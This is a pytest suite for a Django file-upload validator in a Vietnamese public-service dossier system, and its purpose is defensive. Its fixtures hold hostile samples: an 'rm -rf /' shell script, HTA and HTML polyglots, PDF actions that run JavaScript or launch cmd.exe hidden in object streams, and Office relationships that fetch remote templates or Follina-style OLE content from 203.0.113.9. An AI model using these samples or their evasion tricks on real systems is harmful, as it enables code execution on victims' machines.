"""Uploads: type sniffed from content (PDF, JPEG, PNG, DOCX, XLSX), executables/scripts/macros refused, size
bounded, SHA-256 recorded, files kept through Django's default storage."""

import hashlib
import io
import struct
import zipfile
import zlib

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from motcua.core.errors import Unprocessable
from motcua.dossiers import documents, services
from motcua.dossiers.models import DossierDocument

from .conftest import APPLICANT, local

# --- real small files, made here -------------------------------------------------------------------------------


def make_pdf() -> bytes:
    from weasyprint import HTML

    return HTML(string="<p>Giấy đề nghị đăng ký hộ kinh doanh</p>").write_pdf()


def make_png() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data))
            + kind
            + data
            + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
        )

    raw = b"\x00\xff\x00\x00"  # one red pixel, filter byte 0
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
        + chunk(b"IDAT", zlib.compress(raw))
        + chunk(b"IEND", b"")
    )


def make_jpeg() -> bytes:
    from PIL import Image

    buf = io.BytesIO()
    Image.new("RGB", (4, 4), (200, 10, 10)).save(buf, format="JPEG")
    return buf.getvalue()


def make_zip(members: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return buf.getvalue()


CT = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'


def make_docx(extra: dict | None = None) -> bytes:
    return make_zip(
        {
            "[Content_Types].xml": CT,
            "_rels/.rels": b"<Relationships/>",
            "word/document.xml": b"<w:document><w:body><w:p><w:r><w:t>Xin chao</w:t></w:r></w:p></w:body></w:document>",
            **(extra or {}),
        }
    )


def make_xlsx() -> bytes:
    from openpyxl import Workbook

    wb = Workbook()
    wb.active["A1"] = "Mã hồ sơ"
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def upload(data: bytes, name: str, content_type: str = "application/octet-stream"):
    return SimpleUploadedFile(name, data, content_type=content_type)


# --- sniffing ----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "maker, expected",
    [
        (make_pdf, documents.PDF),
        (make_png, documents.PNG),
        (make_jpeg, documents.JPEG),
        (make_docx, documents.DOCX),
        (make_xlsx, documents.XLSX),
    ],
)
def test_accepts_real_small_files_whatever_their_name(maker, expected):
    data = maker()
    # the name and the browser's claimed type lie: the content decides
    info = documents.inspect_upload(upload(data, "anh chup.exe", "text/plain"))
    assert info.content_type == expected
    assert info.sha256 == hashlib.sha256(data).hexdigest() and info.size == len(data)


def test_the_name_people_download_ends_in_the_extension_of_the_content():
    """The kept name is the one a download is saved under, and the saved file's extension decides what opens it:
    an HTML application behind a JPEG's first bytes saved as "CCCD.hta" is run by Windows (mshta), HTML behind a
    PDF header saved as ".html" by the browser. A name whose extension does not say what the content is gets
    the content's extension added; a name that says it already is kept."""
    jpeg_hta = b"\xff\xd8\xff\xe0<html><script>alert(1)</script></html>"
    assert documents.inspect_upload(upload(jpeg_hta, "CCCD.hta")).name == "CCCD.hta.jpg"
    pdf_html = b"%PDF-1.4\n<html><script>alert(document.domain)</script>\n%%EOF"
    assert documents.inspect_upload(upload(pdf_html, "to-khai.html")).name == "to-khai.html.pdf"
    assert documents.inspect_upload(upload(make_png(), "anh")).name == "anh.png"
    assert documents.inspect_upload(upload(make_docx(), "don.DOC")).name == "don.DOC.docx"
    # the content's own extensions, in any case, stay as they are
    assert documents.inspect_upload(upload(make_pdf(), "Giấy đề nghị.PDF")).name == "Giấy đề nghị.PDF"
    assert documents.inspect_upload(upload(make_jpeg(), "anh chup.jpeg")).name == "anh chup.jpeg"
    assert documents.inspect_upload(upload(make_xlsx(), "bang.xlsx")).name == "bang.xlsx"
    # a long name is still cut to 200 characters, ending in the content's extension
    long = documents.inspect_upload(upload(make_pdf(), "x" * 300 + ".exe")).name
    assert len(long) == documents.MAX_FILENAME and long.endswith("x….pdf")


def test_sniff_function_directly():
    assert documents.sniff(b"%PDF-1.7\n...") == documents.PDF
    assert documents.sniff(b"PK\x03\x04", ["[Content_Types].xml", "xl/workbook.xml"]) == documents.XLSX
    with pytest.raises(Unprocessable) as exc:
        documents.sniff(b"PK\x03\x04", ["readme.txt"])
    assert "ZIP" in exc.value.message


@pytest.mark.parametrize(
    "data, code, words",
    [
        (
            b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 64 + b"This program cannot be run in DOS mode",
            "executable_file",
            "tệp chạy Windows",
        ),
        (b"\x7fELF\x02\x01\x01" + b"\x00" * 32, "executable_file", "ELF"),
        (b"#!/bin/sh\nrm -rf /\n", "executable_file", "script"),
        (b"<html><script>alert(1)</script></html>", "executable_file", "script"),
        (b"Hello, plain text", "bad_file_type", "Chỉ nhận PDF, JPEG, PNG, DOCX, XLSX"),
        (b"", "empty_file", "rỗng"),
    ],
)
def test_refuses_executables_scripts_and_unknown(data, code, words):
    with pytest.raises(Unprocessable) as exc:
        documents.inspect_upload(upload(data, "giay-to.pdf", "application/pdf"))
    assert exc.value.code == code
    assert words in exc.value.message
    assert exc.value.message_en  # English too


def test_refuses_office_file_with_macros():
    docm = make_docx({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 macro"})
    with pytest.raises(Unprocessable) as exc:
        documents.inspect_upload(upload(docm, "don.docx"))
    assert exc.value.code == "macro_file" and "macro" in exc.value.message


REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def _rels(*relationships: str, prefix: str = "") -> bytes:
    ns = f'xmlns{":" + prefix if prefix else ""}="http://schemas.openxmlformats.org/package/2006/relationships"'
    tag = f"{prefix}:Relationship" if prefix else "Relationship"
    body = "".join(f"<{tag} {r}/>" for r in relationships)
    root = f"{prefix}:Relationships" if prefix else "Relationships"
    return f'<?xml version="1.0"?><{root} {ns}>{body}</{root}>'.encode()


@pytest.mark.parametrize(
    "part, relationship, prefix",
    [
        # a remote macro template, loaded when Word opens the file
        ("word/_rels/settings.xml.rels",
         f'Id="rId1" Type="{REL}attachedTemplate" Target="http://203.0.113.9/mau.dotm" TargetMode="External"', ""),
        # CVE-2022-30190 (Follina): an OLE object fetched from outside
        ("word/_rels/document.xml.rels",
         f'Id="rId9" Type="{REL}oleObject" Target="mhtml:http://203.0.113.9/x.html!x-usc:http://203.0.113.9/x" '
         'TargetMode="External"', ""),
        # the same, spelt with a namespace prefix and a character reference: read as Office reads it
        ("word/_rels/document.xml.rels",
         f'Id="rId9" Type="{REL}frame" Target="\\\\203.0.113.9\\chia-se" TargetMode="&#69;xternal"', "r"),
        ("xl/worksheets/_rels/sheet1.xml.rels",
         f'Id="rId2" Type="{REL}oleObject" Target="file://203.0.113.9/x.bin" TargetMode="External"', ""),
    ],
)  # fmt: skip
def test_refuses_office_file_loading_remote_content(part, relationship, prefix):
    data = make_docx({part: _rels(relationship, prefix=prefix)})
    with pytest.raises(Unprocessable) as exc:
        documents.inspect_upload(upload(data, "don.docx"))
    assert exc.value.code == "remote_content"
    assert "máy khác" in exc.value.message and "another machine" in exc.value.message_en


def test_accepts_office_file_with_hyperlinks_and_embedded_objects():
    """A hyperlink is followed only when clicked, and an OLE object kept inside the file loads nothing from
    outside: such documents are accepted."""
    rels = _rels(
        f'Id="rId1" Type="{REL}hyperlink" Target="https://dichvucong.gov.vn/" TargetMode="External"',
        f'Id="rId2" Type="{REL}oleObject" Target="embeddings/oleObject1.bin"',
    )
    data = make_docx({"word/_rels/document.xml.rels": rels, "word/embeddings/oleObject1.bin": b"\xd0\xcf"})
    assert documents.inspect_upload(upload(data, "don.docx")).content_type == documents.DOCX


def test_refuses_damaged_zip_and_pdf_with_javascript():
    with pytest.raises(Unprocessable):
        documents.inspect_upload(upload(b"PK\x03\x04garbage-not-a-zip", "a.docx"))
    evil = b"%PDF-1.4\n1 0 obj << /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >> endobj\n%%EOF"
    with pytest.raises(Unprocessable) as exc:
        documents.inspect_upload(upload(evil, "a.pdf"))
    assert "JavaScript" in exc.value.message


def test_refuses_oversized_file(settings):
    settings.MOTCUA_UPLOAD_MAX_BYTES = 1024
    data = b"%PDF-1.4\n" + b"0" * 2000
    with pytest.raises(Unprocessable) as exc:
        documents.inspect_upload(upload(data, "lon.pdf"))
    assert (
        exc.value.code == "file_too_large" and "quá lớn" in exc.value.message and "1 KB" in exc.value.message
    )
    # exactly at the bound is fine
    documents.inspect_upload(upload(b"%PDF-1.4\n" + b"0" * (1024 - 9), "vua.pdf"))


@pytest.mark.parametrize(
    "size, limit, shown, shown_en",
    [
        (21_000_000, 20 * 1024 * 1024, "20,03 MB", "20.03 MB"),  # was "quá lớn (20 MB); tối đa … 20 MB"
        (20 * 1024 * 1024 + 1, 20 * 1024 * 1024, "20971521 byte", "20971521 byte"),  # one byte over
        (1030, 1024, "1,01 KB", "1.01 KB"),
        (30 * 1024 * 1024, 20 * 1024 * 1024, "30 MB", "30 MB"),
        (500, 1024, "500 byte", "500 byte"),
    ],
)
def test_an_oversized_files_size_is_never_shown_as_the_limit(settings, size, limit, shown, shown_en):
    from motcua.core.text import size_over_text, size_text

    assert size_over_text(size, limit) == shown
    assert size_over_text(size, limit, en=True) == shown_en
    assert size <= limit or size_over_text(size, limit) != size_text(limit)


def test_sizes_take_the_decimal_comma_in_vietnamese_and_the_point_in_english():
    from motcua.core.text import size_text

    one_and_a_half = int(1.5 * 1024 * 1024)
    assert (size_text(one_and_a_half), size_text(one_and_a_half, en=True)) == ("1,5 MB", "1.5 MB")
    assert size_text(20 * 1024 * 1024) == "20 MB" and size_text(2048) == "2 KB"


def test_the_oversized_upload_message_says_each_language_its_own_way(settings):
    settings.MOTCUA_UPLOAD_MAX_BYTES = 1024 * 1024
    with pytest.raises(Unprocessable) as refused:
        documents.inspect_upload(upload(b"%PDF-1.4\n" + b"0" * (1024 * 1024 + 20_000), "lon.pdf"))
    assert "1,02 MB" in refused.value.message and "1.02 MB" in refused.value.message_en


def test_clean_filename():
    assert documents.clean_filename("C:\\Users\\x\\Giấy đề nghị.pdf") == "Giấy đề nghị.pdf"
    assert documents.clean_filename("../../etc/passwd\x00") == "passwd"


def test_a_long_file_name_keeps_its_extension():
    long = "Giay_de_nghi_dang_ky_ho_kinh_doanh_" * 10 + "ban_chinh.pdf"
    short = documents.clean_filename(long)
    assert len(short) == 200 and short.endswith("….pdf") and short.startswith("Giay_de_nghi_dang_ky")
    assert documents.clean_filename("Giấy đề nghị " * 20 + ".docx").endswith("….docx")
    assert len(documents.clean_filename("x" * 300)) == 200  # no extension: cut with an ellipsis
    assert documents.clean_filename("a" * 196 + ".pdf") == "a" * 196 + ".pdf"  # exactly 200: untouched


# --- storing --------------------------------------------------------------------------------------------------


def registered_at_the_counter(org):
    """A dossier for 1.001612 the one-stop officer registered at the counter on Monday 3 March 2025, 09:00."""
    d, _ = services.dossier_file(
        actor=org["users"]["officer"],
        procedure_code="1.001612",
        agency_identifier="000.00.21.H26",
        channel="counter",
        applicant=APPLICANT,
        at=local(2025, 3, 3, 9, 0),
    )
    return d


def test_store_upload_keeps_file_and_hash_and_event_records_it(org):
    d = registered_at_the_counter(org)
    data = make_pdf()
    doc = documents.store_upload(
        dossier=d,
        uploaded_file=upload(data, "Giấy đề nghị.pdf"),
        kind="component",
        actor=org["users"]["officer"],
    )
    assert isinstance(doc, DossierDocument) and doc.pk
    assert doc.sha256 == hashlib.sha256(data).hexdigest() and doc.content_type == documents.PDF
    assert doc.name == "Giấy đề nghị.pdf"
    assert (
        doc.file.name.endswith(".pdf") and doc.sha256[:16] in doc.file.name
    )  # derived name, not the uploader's
    with doc.file.open("rb") as fh:
        assert fh.read() == data
    assert documents.unrecorded_hashes(d) == [doc.sha256]
    d = services.dossier_act(
        code=d.code,
        action="receive",
        actor=org["users"]["officer"],
        params={"file_hashes": documents.unrecorded_hashes(d)},
        at=local(2025, 3, 3, 9, 30),
    )
    assert d.events.get(action="receive").file_hashes == [doc.sha256]
    assert documents.unrecorded_hashes(d) == []
    assert services.verify_chain(d) == []


def test_store_upload_refuses_bad_kind_and_foreign_component(org):
    from motcua.catalog.models import Procedure, ProcedureComponent, ProcedureVersion

    d = registered_at_the_counter(org)
    with pytest.raises(Unprocessable):
        documents.store_upload(dossier=d, uploaded_file=upload(make_png(), "a.png"), kind="virus", actor=None)
    other = Procedure.objects.create(code="1.000001", name="Khác", field=org["field"], level="commune")
    v = ProcedureVersion.objects.create(
        procedure=other,
        effective_from=local(2020, 1, 1).date(),
        name="Khác",
        field=org["field"],
        level="commune",
    )
    comp = ProcedureComponent.objects.create(version=v, name="Tờ khai")
    with pytest.raises(Unprocessable):
        documents.store_upload(
            dossier=d, uploaded_file=upload(make_png(), "a.png"), kind="component", component=comp, actor=None
        )
    assert not d.documents.exists()


def objstm_pdf(action: bytes | None, *, break_xref: bool = False, hex_filter: bool = False) -> bytes:
    """A PDF 1.5 whose objects all sit in a Flate-compressed object stream (as most producers write today), with an
    optional /OpenAction dictionary — so no marker appears in the raw bytes. `hex_filter`: the object stream is
    ASCIIHex-encoded instead (no inflating finds it; only the parsed walk does)."""
    objs = [
        b"<< /Type /Catalog /Pages 2 0 R" + (b" /OpenAction 4 0 R" if action else b"") + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
        action or b"<< /S /URI /URI (https://dichvucong.gov.vn) >>",
    ]
    offsets, body = [], b""
    for o in objs:
        offsets.append(len(body))
        body += o + b"\n"
    header = b" ".join(f"{i + 1} {off}".encode() for i, off in enumerate(offsets)) + b"\n"
    packed = (header + body).hex().encode() + b">" if hex_filter else zlib.compress(header + body)
    kind = "/ASCIIHexDecode" if hex_filter else "/FlateDecode"
    out = b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n"
    objstm_at = len(out)
    out += (
        (
            f"5 0 obj\n<< /Type /ObjStm /N 4 /First {len(header)} /Filter {kind} /Length {len(packed)} >>\n"
            "stream\n"
        ).encode()
        + packed
        + b"\nendstream\nendobj\n"
    )
    xref_at = len(out)
    rows = [struct.pack(">BIH", 0, 0, 65535)]
    rows += [struct.pack(">BIH", 2, 5, i) for i in range(4)]
    rows += [struct.pack(">BIH", 1, objstm_at, 0), struct.pack(">BIH", 1, xref_at, 0)]
    table = b"".join(rows)
    out += (
        (f"6 0 obj\n<< /Type /XRef /Size 7 /Root 1 0 R /W [1 4 2] /Length {len(table)} >>\nstream\n").encode()
        + table
        + b"\nendstream\nendobj\n"
    )
    out += f"startxref\n{xref_at + (999 if break_xref else 0)}\n%%EOF\n".encode()
    return out


@pytest.mark.parametrize(
    "action",
    [
        b"<< /S /JavaScript /JS (app.alert(1)) >>",
        b"<< /S /Launch /F (cmd.exe) >>",
        b"<< /Type /Action /S /GoTo /D [3 0 R /Fit] /Next << /S /JavaScript /JS 7 0 R >> >>",
    ],
)
@pytest.mark.parametrize(
    "variant", [{}, {"break_xref": True}, {"hex_filter": True}], ids=["flate", "damaged-xref", "hex-objstm"]
)
def test_refuses_active_pdf_hidden_in_a_compressed_object_stream(action, variant):
    data = objstm_pdf(action, **variant)
    assert b"JavaScript" not in data and b"Launch" not in data  # invisible to a byte scan
    with pytest.raises(Unprocessable) as exc:
        documents.inspect_upload(upload(data, "to-khai.pdf"))
    assert exc.value.code == "executable_file" and "JavaScript" in exc.value.message


@pytest.mark.parametrize("hex_filter", [False, True])
def test_accepts_a_clean_pdf_with_object_streams(hex_filter):
    data = objstm_pdf(None, hex_filter=hex_filter)
    from pypdf import PdfReader

    assert len(PdfReader(io.BytesIO(data)).pages) == 1  # a well-formed PDF: the walk, not the fallback, ran
    info = documents.inspect_upload(upload(data, "to-khai.pdf"))
    assert info.content_type == "application/pdf"
    # a file that only looks like a PDF (no structure at all) is still accepted: nothing active in it
    assert documents.inspect_upload(upload(b"%PDF-1.4\nnot really a pdf\n%%EOF", "scan.pdf")).size > 0


def test_refuses_a_password_protected_pdf():
    from pypdf import PdfWriter

    w = PdfWriter()
    w.add_blank_page(200, 200)
    w.encrypt(user_password="bi-mat", owner_password="chu", algorithm="RC4-128")
    buf = io.BytesIO()
    w.write(buf)
    with pytest.raises(Unprocessable) as exc:
        documents.inspect_upload(upload(buf.getvalue(), "khoa.pdf"))
    assert exc.value.code == "password_protected" and "mật khẩu" in exc.value.message
    assert "password" in exc.value.message_en


# --- the virus scanner hook (MOTCUA_UPLOAD_SCAN_COMMAND) --------------------------------------------------------

EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def scanner(body: str) -> str:
    """A stand-in for clamdscan: a Python one-liner reading the file from standard input."""
    import shlex
    import sys

    return shlex.join([sys.executable, "-c", f"import sys, time; data = sys.stdin.buffer.read(); {body}"])


FLAGS_EICAR = scanner("print('stdin: Eicar-Signature FOUND' if b'EICAR-STANDARD' in data else 'OK'); "
                      "sys.exit(1 if b'EICAR-STANDARD' in data else 0)")  # fmt: skip


def test_scanner_passes_clean_files_and_refuses_flagged_ones(settings):
    settings.MOTCUA_UPLOAD_SCAN_COMMAND = FLAGS_EICAR
    info = documents.inspect_upload(upload(make_png(), "anh.png"))
    assert info.content_type == documents.PNG
    with pytest.raises(Unprocessable) as caught:
        documents.inspect_upload(upload(make_png() + EICAR, "anh.png"))
    assert caught.value.code == "malware_found" and caught.value.status == 422
    assert "mã độc" in caught.value.message and "virus scanner" in caught.value.message_en


@pytest.mark.parametrize(
    "command",
    [
        scanner("sys.exit(2)"),  # the scanner's own error (ClamAV: database missing, daemon down)
        "/nonexistent/clamdscan -",  # not installed
        scanner("time.sleep(5)"),  # hangs past the timeout
    ],
)
def test_a_scanner_that_cannot_answer_refuses_the_file_for_now(settings, command):
    from motcua.core.errors import DomainError

    settings.MOTCUA_UPLOAD_SCAN_COMMAND = command
    settings.MOTCUA_UPLOAD_SCAN_TIMEOUT_SECONDS = 1
    with pytest.raises(DomainError) as caught:
        documents.inspect_upload(upload(make_png(), "anh.png"))
    assert caught.value.code == "scan_unavailable" and caught.value.status == 503
    assert "thử lại" in caught.value.message


def test_a_flagged_upload_on_the_staff_page_stores_nothing(client, org, settings):
    from .conftest import login
    from .test_views import file_online

    settings.MOTCUA_UPLOAD_SCAN_COMMAND = FLAGS_EICAR
    d = file_online(org)
    login(client, org, "officer")
    r = client.post(
        f"/staff/dossiers/{d.code}/documents/",
        {"kind": "component", "files": [SimpleUploadedFile("a.png", make_png() + EICAR)]},
    )
    assert r.status_code == 422 and "mã độc" in r.content.decode()
    assert not DossierDocument.objects.filter(dossier=d).exists()


def test_the_same_file_twice_gets_its_suffix_before_the_extension(org):
    """Two stored copies of the same bytes on one dossier: the storage's collision suffix goes right before the
    extension, not inside the dossier code (which has dots)."""
    import re

    d = registered_at_the_counter(org)
    data = make_png()
    first, second = (
        documents.store_upload(
            dossier=d, uploaded_file=upload(data, "anh.png"), kind="other", actor=org["users"]["officer"]
        )
        for _ in range(2)
    )
    stem = f"{d.code.replace('.', '_')}-{first.sha256[:16]}"
    assert first.file.name.rsplit("/", 1)[1] == f"{stem}.png"
    assert re.fullmatch(rf"{re.escape(stem)}_[0-9A-Za-z]{{7}}\.png", second.file.name.rsplit("/", 1)[1])
    with second.file.open("rb") as fh:
        assert fh.read() == data


def test_a_refused_file_is_named_in_typographic_quotes(settings):
    """The messages a citizen reads named the file in straight quotes, "Tệp 'ghichu.txt': …"; Vietnamese and
    English text quote with “ ”."""
    with pytest.raises(Unprocessable) as exc:
        documents.inspect_upload(upload(b"ghi chu\n", "ghichu.txt"))
    assert exc.value.message.startswith("Tệp “ghichu.txt”: ") and exc.value.message_en.startswith(
        "File “ghichu.txt”: "
    )
    settings.MOTCUA_UPLOAD_MAX_BYTES = 1024
    with pytest.raises(Unprocessable) as exc:
        documents.inspect_upload(upload(b"%PDF-1.4\n" + b"0" * 2000, "lon.pdf"))
    assert "Tệp “lon.pdf” quá lớn" in exc.value.message
    assert "File “lon.pdf” is too large" in exc.value.message_en
    assert "'" not in exc.value.message + exc.value.message_en


def test_the_consent_slip_is_the_filers_to_add_not_the_agency_staffs(org):
    """A ward officer uploaded a "consent slip" to a dossier a community member filed, and the page then said the
    signed slip was on file: the slip is the filer's evidence (ADR 0016); the staff's upload form does not offer it."""
    from motcua.dossiers.documents import may_upload
    from motcua.dossiers.forms import UploadForm
    from motcua.dossiers.models import DocumentKind

    from .test_views import file_online

    d = file_online(org)
    officer, citizen = org["users"]["officer"], org["users"]["citizen"]
    assert d.filed_by_id == citizen.pk
    assert may_upload(officer, d, DocumentKind.OTHER) and not may_upload(officer, d, DocumentKind.CONSENT)
    assert may_upload(citizen, d, DocumentKind.CONSENT)
    assert DocumentKind.CONSENT not in dict(UploadForm.base_fields["kind"].choices)
